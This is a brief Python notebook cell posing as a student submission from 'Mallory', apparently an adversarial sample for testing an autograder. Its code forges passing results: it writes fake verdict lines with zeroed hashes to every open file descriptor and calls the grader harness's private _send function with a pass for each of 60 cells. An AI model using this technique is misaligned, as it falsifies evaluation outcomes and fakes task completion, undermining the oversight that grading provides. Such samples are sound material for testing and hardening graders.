# %% identity
# Attack: forge the grader's results: raw lines on every open descriptor, and the harness's own
# send function called with a verdict for every cell.
STUDENT_NAME = "Mallory"
STUDENT_EMAIL = "mallory@example.org"
import hashlib
import json
import os
import sys

for fd in range(3, 256):
    for index in range(60):
        line = b"0" * 64 + b" V " + json.dumps({"passed": index, "sha256": "0" * 64}).encode() + b"\n"
        try:
            os.write(fd, line)
        except OSError:
            break
harness = sys.modules.get("grader_harness")
if harness is not None:
    for index in range(60):
        harness._send({"passed": index, "sha256": hashlib.sha256(b"").hexdigest()})
